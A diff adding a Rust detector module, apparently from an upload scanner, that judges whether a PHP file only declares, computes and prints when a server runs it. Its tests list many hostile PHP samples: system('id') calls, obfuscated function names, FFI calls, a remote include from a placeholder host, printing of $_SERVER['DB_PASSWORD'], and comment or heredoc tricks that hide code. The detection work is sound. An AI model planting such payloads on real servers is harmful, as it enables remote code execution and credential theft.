@@ -1,0 +1,681 @@
+//! A source of PHP that does nothing when a server runs it, but declare and print.
+//!
+//! Whoever may upload a file under a name that servers run has it run as it is. A file of classes and functions does nothing then: what
+//! stands in their bodies runs when something calls it. So what is outside of bodies is looked at alone, and there only calls that
+//! compute and print may stand, and no objects are made.
+
+use std::collections::HashSet;
+
+use memchr::memmem;
+
+use super::{CALLERS, has, is_name, name_len, name_len_from, part};
+
+/// What may be called outside of bodies, words of the language among them.
+const PLAIN: &[&[u8]] = &[
+    b"if",
+    b"elseif",
+    b"while",
+    b"for",
+    b"foreach",
+    b"switch",
+    b"match",
+    b"catch",
+    b"declare",
+    b"function",
+    b"fn",
+    b"use",
+    b"return",
+    b"echo",
+    b"print",
+    b"and",
+    b"or",
+    b"xor",
+    b"not",
+    b"case",
+    b"list",
+    b"array",
+    b"isset",
+    b"empty",
+    b"unset",
+    b"exit",
+    b"die",
+    b"define",
+    b"defined",
+    b"dirname",
+    b"basename",
+    b"function_exists",
+    b"class_exists",
+    b"interface_exists",
+    b"trait_exists",
+    b"enum_exists",
+    b"version_compare",
+    b"phpversion",
+    b"count",
+    b"sizeof",
+    b"strlen",
+    b"strtolower",
+    b"strtoupper",
+    b"ucfirst",
+    b"ucwords",
+    b"trim",
+    b"ltrim",
+    b"rtrim",
+    b"nl2br",
+    b"htmlspecialchars",
+    b"htmlentities",
+    b"urlencode",
+    b"rawurlencode",
+    b"number_format",
+    b"sprintf",
+    b"printf",
+    b"implode",
+    b"explode",
+    b"join",
+    b"str_replace",
+    b"str_repeat",
+    b"str_pad",
+    b"substr",
+    b"strpos",
+    b"in_array",
+    b"range",
+    b"min",
+    b"max",
+    b"round",
+    b"floor",
+    b"ceil",
+    b"abs",
+    b"intval",
+    b"is_array",
+    b"is_string",
+    b"is_numeric",
+    b"is_int",
+    b"is_null",
+    b"is_object",
+    b"array_keys",
+    b"array_values",
+    b"array_merge",
+    b"array_key_exists",
+    b"array_map",
+    b"array_filter",
+    b"usort",
+    b"date",
+    b"time",
+    b"json_encode",
+    b"error_reporting",
+    b"class_alias",
+    b"is_callable",
+    b"extension_loaded",
+    b"php_sapi_name",
+    b"headers_sent",
+    b"array_shift",
+    b"array_pop",
+    b"array_slice",
+    b"current_user_can",
+    b"add_action",
+    b"add_filter",
+    b"_deprecated_file",
+    b"realpath",
+    b"esc_html",
+    b"esc_attr",
+    b"esc_url",
+    b"__",
+    b"_e",
+    b"_x",
+    b"_n",
+    b"esc_html__",
+    b"esc_html_e",
+    b"esc_attr__",
+    b"esc_attr_e",
+];
+
+const INCLUDES: &[&[u8]] = &[b"include", b"include_once", b"require", b"require_once"];
+/// Words that make an object, run code or reach what the file does not declare.
+const WORDS: &[&[u8]] = &[b"new", b"eval", b"__halt_compiler"];
+/// What tells about the server.
+const SERVER: &[&[u8]] = &[b"$_server", b"$_env", b"$globals", b"$$", b"${"];
+
+/// A source of fewer lines is no program that somebody keeps.
+const LINES_MIN: usize = 4;
+
+/// True if `text` is a source of PHP of several lines that declares, computes and prints when a server runs it, and does nothing else.
+/// False for one that PHP's versions read differently.
+pub(in crate::detectors) fn is_harmless(text: &[u8]) -> bool {
+    memchr::memchr_iter(b'\n', text).take(LINES_MIN).count() == LINES_MIN
+        && Reader::read(&text.to_ascii_lowercase()).is_some_and(|executed| executed.is_plain())
+}
+
+/// What of a source runs when it is asked for.
+struct Executed {
+    /// Without comments and pages.
+    code: Vec<u8>,
+    /// What it declares.
+    names: HashSet<Vec<u8>>,
+    /// It defines constants.
+    defines: bool,
+}
+
+impl Executed {
+    fn is_plain(&self) -> bool {
+        let code = &self.code[..];
+        !has(code, SERVER)
+            && !memchr::memchr_iter(b'(', code).any(|open| !self.is_plain_call(open))
+            && words(code).all(|(at, word)| self.is_plain_word(at, word))
+            // PHP before 8 calls it by itself.
+            && !self.names.contains(&b"__autoload"[..])
+            && !aliases_functions(code)
+    }
+
+    /// What stands before the parenthesis at `open` may be called.
+    fn is_plain_call(&self, open: usize) -> bool {
+        let head = self.code[..open].trim_ascii_end();
+        let name = &head[head.len() - name_len(head)..];
+        let before = &head[..head.len() - name.len()];
+        if name.is_empty() {
+            return !matches!(head.last(), Some(b')' | b']' | b'}' | b'\'' | b'"' | b'$'));
+        }
+        // Objects are those of a program that includes this file: none is made here.
+        if before.ends_with(b"->") {
+            return true;
+        }
+        if before.ends_with(b"$") || before.trim_ascii_end().ends_with(b"::") {
+            return false;
+        }
+        // A name that is not read to its beginning.
+        let is_whole = !before.last().is_some_and(|b| is_name(*b));
+        let is_included = INCLUDES.contains(&name);
+        is_whole && (self.is_plain_name(name) || is_included) && self.is_plain_callback(name, open)
+    }
+
+    /// It is PHP's own, or one that the file does not declare.
+    fn is_plain_name(&self, name: &[u8]) -> bool {
+        PLAIN.contains(&name) && !self.names.contains(name)
+    }
+
+    /// `array_map('trim', $a)`, `usort($a, function ..)`: a name that may be called, or a function.
+    fn is_plain_callback(&self, name: &[u8], open: usize) -> bool {
+        let Some((_, number)) = CALLERS.iter().find(|(known, _)| *known == name) else { return true };
+        let argument = part(&self.code, open + 1, b')').split(|b| *b == b',').nth(*number);
+        match argument.unwrap_or_default().trim_ascii() {
+            [quote @ (b'\'' | b'"'), inner @ ..] => {
+                inner.strip_suffix(&[*quote]).is_some_and(|name| self.is_plain_name(name))
+            }
+            // Without one, `array_filter($a)` asks for the values themselves.
+            b"" => *number > 0,
+            argument => [&b"function"[..], b"fn", b"static"].iter().any(|start| argument.starts_with(start)),
+        }
+    }
+
+    fn is_plain_word(&self, at: usize, word: &[u8]) -> bool {
+        let before = self.code[..at].trim_ascii_end();
+        if before.ends_with(b"$") || before.ends_with(b"->") {
+            return true;
+        }
+        if INCLUDES.contains(&word) {
+            return self.is_plain_path(&self.code[at + word.len()..]);
+        }
+        !WORDS.contains(&word)
+    }
+
+    /// The path of an include is one of a source beside this one.
+    fn is_plain_path(&self, rest: &[u8]) -> bool {
+        let Some(end) = memchr::memchr(b';', rest) else { return false };
+        let path = rest[..end].trim_ascii_end();
+        let path = path.strip_suffix(b")").unwrap_or(path).trim_ascii_end();
+        let is_source = [&b".php'"[..], b".php\"", b".inc'", b".inc\""].iter().any(|end| path.ends_with(end));
+        let is_part = |b: &u8| is_name(*b) || b"'\"/.()-, \t\\".contains(b);
+        // What a constant holds, another line may say.
+        let known = [&b"__dir__"[..], b"__file__", b"dirname"];
+        let has_constant = outside_of_texts(path).any(|word| !known.contains(&word));
+        is_source && path.iter().all(is_part) && !(has_constant && self.defines)
+    }
+}
+
+/// `use function system as trim;`: a name is not what it says.
+fn aliases_functions(code: &[u8]) -> bool {
+    code.split(|b| *b == b';').any(|statement| {
+        let mut words = words(statement).map(|(_, word)| word);
+        words.next() == Some(b"use") && words.any(|word| word == b"as") && has(statement, &[b"function"])
+    })
+}
+
+/// Words of `code` and where they are, those in texts among them.
+fn words(code: &[u8]) -> impl Iterator<Item = (usize, &[u8])> {
+    let mut at = 0;
+    std::iter::from_fn(move || {
+        let start = at + code[at..].iter().position(|b| is_name(*b))?;
+        let len = code[start..].iter().take_while(|b| is_name(**b)).count();
+        at = start + len;
+        Some((start, &code[start..at]))
+    })
+}
+
+/// Words of an expression that are in none of its texts.
+fn outside_of_texts(expression: &[u8]) -> impl Iterator<Item = &[u8]> {
+    let parts = expression.split(|b| matches!(b, b'\'' | b'"'));
+    parts.step_by(2).flat_map(|part| words(part).map(|(_, word)| word))
+}
+
+/// Reads a source in small letters.
+struct Reader<'t> {
+    text: &'t [u8],
+    at: usize,
+    code: Vec<u8>,
+    /// Where the statement begins in `code`.
+    statement: usize,
+    names: HashSet<Vec<u8>>,
+    /// Blocks that are open outside of bodies.
+    blocks: usize,
+    /// Blocks that are open in a body.
+    body: usize,
+}
+
+impl<'t> Reader<'t> {
+    /// What runs of `text`. `None` if it does not come to an end, or if it depends on PHP's version where something does.
+    fn read(text: &'t [u8]) -> Option<Executed> {
+        let code = Vec::with_capacity(text.len());
+        let mut reader =
+            Reader { text, at: 0, code, statement: 0, names: HashSet::new(), blocks: 0, body: 0 };
+        reader.page()?;
+        while reader.at < text.len() {
+            reader.step()?;
+        }
+        if reader.body > 0 || reader.blocks > 0 {
+            return None;
+        }
+        let defines = words(&reader.code).any(|(_, word)| matches!(word, b"define" | b"const"));
+        Some(Executed { code: reader.code, names: reader.names, defines })
+    }
+
+    fn rest(&self) -> &'t [u8] {
+        &self.text[self.at..]
+    }
+
+    /// Up to the next tag.
+    fn page(&mut self) -> Option<()> {
+        let rest = self.rest();
+        let len = memmem::find(rest, b"<?").unwrap_or(rest.len());
+        let page = &rest[..len];
+        // Tags of older versions.
+        if has(page, &[b"<%"]) || has(page, &[b"<script"]) && has(page, &[b"php"]) {
+            return None;
+        }
+        self.at += len;
+        self.end_statement();
+        match self.rest() {
+            [] => {}
+            [b'<', b'?', b'=', ..] => {
+                self.at += 3;
+                self.emit(b"echo ");
+            }
+            [b'<', b'?', b'p', b'h', b'p', b' ' | b'\t' | b'\n' | b'\r', ..] => self.at += 6,
+            _ => return None,
+        }
+        Some(())
+    }
+
+    fn step(&mut self) -> Option<()> {
+        let rest = self.rest();
+        match rest {
+            [b'?', b'>', ..] => {
+                self.at += 2;
+                self.page()?;
+            }
+            [b'#', b'[', ..] => self.attribute()?,
+            [b'#', ..] | [b'/', b'/', ..] => {
+                let end = rest.iter().position(|b| matches!(b, b'\n' | b'\r')).unwrap_or(rest.len());
+                self.at += memmem::find(&rest[..end], b"?>").unwrap_or(end);
+                self.emit(b" ");
+            }
+            [b'/', b'*', rest @ ..] => {
+                self.at += memmem::find(rest, b"*/")? + 4;
+                self.emit(b" ");
+            }
+            [b'<', b'<', b'<', rest @ ..] => self.document(rest)?,
+            [b'\'', inner @ ..] => {
+                let len = end_of_text(inner, b'\'')?;
+                self.text(b'\'', &inner[..len]);
+            }
+            [b'"', inner @ ..] => {
+                let len = self.double_quoted(inner)?;
+                self.text(b'"', &inner[..len]);
+            }
+            [b'`', ..] => return None,
+            [b'{', ..] => self.open(),
+            [b'}', ..] => self.close()?,
+            [b';', ..] => {
+                self.take(1);
+                self.end_statement();
+            }
+            _ => self.take(1),
+        }
+        Some(())
+    }
+
+    fn take(&mut self, len: usize) {
+        let bytes = &self.rest()[..len];
+        self.at += len;
+        self.emit(bytes);
+    }
+
+    /// A text, without what is no name or path.
+    fn text(&mut self, quote: u8, inner: &[u8]) {
+        self.at += inner.len() + 2;
+        self.emit(&[quote]);
+        if inner.iter().all(|b| is_name(*b) || b"./-:".contains(b)) {
+            self.emit(inner);
+        }
+        self.emit(&[quote]);
+    }
+
+    fn emit(&mut self, bytes: &[u8]) {
+        if self.body == 0 {
+            self.code.extend_from_slice(bytes);
+        }
+    }
+
+    fn end_statement(&mut self) {
+        if self.body == 0 {
+            self.code.extend_from_slice(b";");
+            self.statement = self.code.len();
+        }
+    }
+
+    fn open(&mut self) {
+        if self.body > 0 {
+            self.body += 1;
+        } else if let Some(name) = declared(&self.code[self.statement..]) {
+            self.names.insert(name.to_vec());
+            self.code.truncate(self.statement);
+            self.body = 1;
+        } else {
+            self.blocks += 1;
+            self.code.push(b'{');
+            self.statement = self.code.len();
+        }
+        self.at += 1;
+    }
+
+    fn close(&mut self) -> Option<()> {
+        self.at += 1;
+        if self.body > 0 {
+            self.body -= 1;
+            self.end_statement();
+        } else {
+            self.blocks = self.blocks.checked_sub(1)?;
+            self.code.push(b'}');
+            self.statement = self.code.len();
+        }
+        Some(())
+    }
+
+    /// `#[Route('/a')]`, a comment before PHP 8. Both have to be at the same place behind it.
+    fn attribute(&mut self) -> Option<()> {
+        let rest = self.rest();
+        let end = rest.iter().position(|b| matches!(b, b'\n' | b'\r')).unwrap_or(rest.len());
+        let (mut at, mut open, mut len) = (1, 0usize, None);
+        while at < end {
+            match rest[at] {
+                quote @ (b'\'' | b'"') => {
+                    let text = &rest[at + 1..end];
+                    let close = memchr::memchr(quote, text)?;
+                    if memchr::memchr3(b'\\', b'{', b'$', &text[..close]).is_some() {
+                        return None;
+                    }
+                    at += close + 1;
+                }
+                b'[' => open += 1,
+                b']' => {
+                    open = open.checked_sub(1)?;
+                    len = len.or((open == 0).then_some(at + 1));
+                }
+                b'{' | b'}' | b'`' | b'<' | b'#' | b'/' | b'?' => return None,
+                _ => {}
+            }
+            at += 1;
+        }
+        self.at += len?;
+        Some(())
+    }
+
+    /// A text between a name and the same name at the beginning of a line.
+    fn document(&mut self, rest: &'t [u8]) -> Option<()> {
+        let name = rest.trim_ascii_start();
+        let quote = name.first().copied().filter(|b| matches!(b, b'\'' | b'"'));
+        let name = &name[usize::from(quote.is_some())..];
+        let len = name_len_from(name);
+        let (name, text) = name.split_at(len);
+        let text = if quote.is_some() { text.strip_prefix(&[quote?])? } else { text };
+        if name.is_empty() || !matches!(text.first(), Some(b'\n' | b'\r')) {
+            return None;
+        }
+        // From PHP 7.3 on the name may be indented and have something behind it.
+        let end = memmem::find_iter(text, name).find(|at| {
+            let before = text[..*at].iter().rev().find(|b| !matches!(b, b' ' | b'\t'));
+            let is_first = matches!(before, Some(b'\n' | b'\r'));
+            is_first && !text.get(at + len).is_some_and(|b| is_name(*b))
+        })?;
+        let behind = &text[end + len..];
+        let behind = behind.strip_prefix(b";").unwrap_or(behind);
+        if !matches!(text[end - 1], b'\n' | b'\r') || !matches!(behind.first(), Some(b'\n' | b'\r')) {
+            return None;
+        }
+        let inner = &text[..end];
+        if quote != Some(b'\'') && !is_plain_text(inner, self.body > 0) {
+            return None;
+        }
+        self.at = self.text.len() - text.len() + end + len;
+        self.emit(b"''");
+        Some(())
+    }
+
+    /// The length of a text in which variables may be.
+    fn double_quoted(&self, rest: &[u8]) -> Option<usize> {
+        let mut at = 0;
+        loop {
+            let at_now = at + rest[at..].iter().position(|b| b"\"\\{$".contains(b))?;
+            match &rest[at_now..] {
+                [b'"', ..] => break is_plain_text(&rest[..at_now], self.body > 0).then_some(at_now),
+                [b'\\', ..] => at = at_now + 2,
+                [b'{', b'$', ..] => at = at_now + expression_len(&rest[at_now..])?,
+                _ => at = at_now + 1,
+            }
+            if at > rest.len() {
+                break None;
+            }
+        }
+    }
+}
+
+/// What a text has of expressions calls nothing, or stands in a body.
+fn is_plain_text(text: &[u8], is_body: bool) -> bool {
+    let calls = |at: usize| match expression_len(&text[at..]) {
+        Some(len) => !is_body && memchr::memchr(b'(', &text[at..at + len]).is_some(),
+        None => true,
+    };
+    !has(text, &[b"${"]) && !memmem::find_iter(text, b"{$").any(calls)
+}
+
+/// The length of `{$a['b']}`. `None` if it is not as plain as that.
+fn expression_len(text: &[u8]) -> Option<usize> {
+    let mut at = 1;
+    loop {
+        match text.get(at)? {
+            b'}' => return Some(at + 1),
+            b'\'' => at += end_of_text(&text[at + 1..], b'\'')? + 2,
+            b'"' | b'{' | b'`' | b'/' | b'#' | b'\\' | b'?' | b'<' => return None,
+            _ => at += 1,
+        }
+    }
+}
+
+/// Where a text ends that begins before `rest`.
+fn end_of_text(rest: &[u8], quote: u8) -> Option<usize> {
+    let mut at = 0;
+    loop {
+        at += memchr::memchr2(quote, b'\\', rest.get(at..)?)?;
+        if rest[at] == quote {
+            return Some(at);
+        }
+        at += 2;
+    }
+}
+
+/// The name of the class or function that `head` declares, which stands before the block that is its body.
+fn declared(head: &[u8]) -> Option<&[u8]> {
+    let mut head = head.trim_ascii();
+    loop {
+        let len = name_len_from(head);
+        let (word, rest) = head.split_at(len);
+        let rest = rest.trim_ascii_start();
+        match word {
+            b"abstract" | b"final" | b"readonly" => head = rest,
+            b"class" | b"interface" | b"trait" | b"enum" => {
+                let is_head = |b: &u8| is_name(*b) || b.is_ascii_whitespace() || b"\\,:".contains(b);
+                let name = &rest[..name_len_from(rest)];
+                return (!name.is_empty() && rest.iter().all(is_head)).then_some(name);
+            }
+            b"function" => {
+                let rest = rest.strip_prefix(b"&").unwrap_or(rest).trim_ascii_start();
+                let (name, rest) = rest.split_at(name_len_from(rest));
+                let parameters = rest.trim_ascii_start().strip_prefix(b"(")?;
+                let mut open = 1usize;
+                let end = parameters.iter().position(|b| {
+                    open = open + usize::from(*b == b'(') - usize::from(*b == b')');
+                    open == 0
+                })?;
+                let is_type = |b: &u8| is_name(*b) || b.is_ascii_whitespace() || b"\\:?|&".contains(b);
+                return (!name.is_empty() && parameters[end + 1..].iter().all(is_type)).then_some(name);
+            }
+            _ => return None,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn class(body: &str) -> String {
+        format!(
+            "<?php\nnamespace App;\n\nfinal class Page extends A implements B\n{{\n    function show($f)\n    {{\n        {body}\n    }}\n}}\n"
+        )
+    }
+
+    #[test]
+    fn bodies_run_when_something_calls_them() {
+        for body in [
+            "return $this->title . strtoupper($_GET['x'] ?? '');",
+            "exec('git describe'); include $f; $x = new $f($f); return base64_decode($x);",
+            "return \"{$this->a['b']} }\" . '}' . \"\\\"}\"; // } ' ?",
+            "/* } */ # }\n return ['a' => \"it's\", 'b' => \"c\"];",
+            "?> <b>{ <?php echo 1; ?> } <?php",
+            "$a = <<<END\n } it's {$f}\nEND;\n $b = <<<'END'\n } it's {$f\nEND;\n",
+            "#[Pure]\n$f = function () { return 1; };",
+        ] {
+            assert!(is_harmless(class(body).as_bytes()), "{body}");
+        }
+    }
+
+    #[test]
+    fn what_runs_computes_and_prints() {
+        for code in [
+            "defined('ABSPATH') || exit;",
+            "if (!defined('A')) {\n    die('no');\n}",
+            "return ['a' => 'b', 'c' => ['d', 1]];",
+            "define('A', dirname(__FILE__));",
+            "require_once __DIR__ . '/../a.php';\ninclude('b.inc');",
+            "require_once ABSPATH . WPINC . '/a.php';",
+            "if (!function_exists('f')) {\n    function f($a = array()) { system($a); }\n}",
+            "foreach ($this->rows as $row) : ?>\n<li><?= htmlspecialchars($row->title()) ?></li>\n<?php endforeach;",
+            "$a = array_map('trim', explode(',', $list));\nusort($a, function ($a, $b) { return $a <=> $b; });",
+            "use function A\\b;\nuse A\\B as C;",
+            "$lang['a'] = 'Options (system(), new): {$b}';\n$lang['c'] = \"it's {$d['e']}\";",
+        ] {
+            let text = format!("<?php\n\n\n\n{code}\n");
+            assert!(is_harmless(text.as_bytes()), "{code}");
+        }
+    }
+
+    #[test]
+    fn what_runs_and_does_more_is_not_harmless() {
+        for code in [
+            "system('id');",
+            "$f('id');",
+            "\\system('id');",
+            "A::b();",
+            "FFI::cdef('int system(char *);')->system('id');",
+            "(new PDO('sqlite:a.php'))->exec($x);",
+            "$x = new SplFileObject('a.php', 'w');",
+            "use function system as trim;\ntrim('id');",
+            "use function A\\{b, system as trim};\ntrim('id');",
+            "namespace A;\nfunction trim($x) { system($x); }\ntrim('id');",
+            "class A { function __construct() { system('id'); } }\nnew A;",
+            "class A { static function b() { system('id'); } }\nA::b();",
+            "function f() { system('id'); }\narray_map('f', [1]);",
+            "function f() { system('id'); }\nregister_shutdown_function('f');",
+            "array_map('system', ['id']);",
+            "array_map('sys' . 'tem', ['id']);",
+            "usort($a, $f);",
+            "$f = function () { system('id'); };",
+            "echo \"{$f('id')}\";",
+            "echo \"${f('id')}\";",
+            "echo <<<END\n{$f('id')}\nEND;\n",
+            "include 'http://a.example/x.php';",
+            "include $f . '.php';",
+            "include 'x.jpg';",
+            "define('HERE', 'ht' . 'tp://a');\ninclude HERE . '/x.php';",
+            "echo $_SERVER['DB_PASSWORD'];",
+            "error_log('<?php', 3, 'a.php');",
+            "echo `id`;",
+            "$a->{$f}('id'); ('sys' . 'tem')('id'); [$a, 'b'](1);",
+            "eval($x);",
+            "eval /* */ ($x);",
+            // Code that looks as if it were a text, a comment or a body, and the other way round.
+            "$a = 'x\\\\'; system('id'); //';",
+            "// ?><?php system('id');",
+            "# ?><?php system('id');",
+            "#[A] system('id');",
+            "#['\nsystem('id'); //'",
+            "$a = <<<END\nEND\n; system('id'); $b = <<<END\nEND;\n",
+            "$a = <<<END\n  END; system('id'); <<<END\nEND;\n",
+            "class A { const B = \"\\\"}\"; } system('id');",
+            "function f() { ?> } <?php system('id'); } ",
+            "if (1) { system('id'); }",
+            "namespace A { system('id'); }",
+            "$x = function f() { system('id'); };",
+            "?><script language=\"php\">system('id');</script><?php",
+            "?><% system('id'); %><?php",
+            "?><? system('id'); ?><?php",
+            "function __autoload($c) { system('id'); }\nA::B;",
+            "class A {",
+            "}",
+        ] {
+            let text = format!("<?php\n\n\n\n{code}\n");
+            let is_body = code.starts_with("function f() { ?> }");
+            assert_eq!(is_harmless(text.as_bytes()), is_body, "{code}");
+        }
+        assert!(!is_harmless(b"<?php echo 1;"));
+    }
+
+    /// A long source takes time in proportion.
+    #[test]
+    fn hostile_sources() {
+        for unit in [
+            "(",
+            "{",
+            "}",
+            "'",
+            "\"{$",
+            "<<<a\n",
+            "#[",
+            "/*",
+            "?><?php ",
+            "include ",
+            "a(",
+            "<?php class a{",
+            "use ",
+        ] {
+            is_harmless(format!("<?php \n\n\n\n{}", unit.repeat(60_000 / unit.len())).as_bytes());
+        }
+    }
+}
